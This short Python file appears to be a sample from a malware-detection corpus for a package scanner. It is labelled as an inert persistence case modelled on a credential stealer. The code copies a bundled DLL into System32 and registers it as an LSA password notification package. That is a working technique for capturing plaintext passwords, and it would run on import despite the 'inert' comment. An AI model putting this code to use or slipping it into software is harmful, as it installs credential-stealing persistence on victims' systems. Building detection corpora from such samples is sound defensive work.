# pkgguard corpus 718 (persistence), modelled on [stealer-profile]; inert, never run.
import os
import shutil
import sys

if sys.platform == "win32":
    import winreg

    shutil.copy(os.path.join(os.path.dirname(__file__), "bin", "pwfilt.dll"), r"C:\Windows\System32\pwfilt.dll")
    with winreg.OpenKey(
        winreg.HKEY_LOCAL_MACHINE, r"SYSTEM\CurrentControlSet\Control\Lsa", 0, winreg.KEY_READ | winreg.KEY_SET_VALUE
    ) as lsa:
        packages, _ = winreg.QueryValueEx(lsa, "Notification Packages")
        if "pwfilt" not in packages:
            winreg.SetValueEx(lsa, "Notification Packages", 0, winreg.REG_MULTI_SZ, list(packages) + ["pwfilt"])
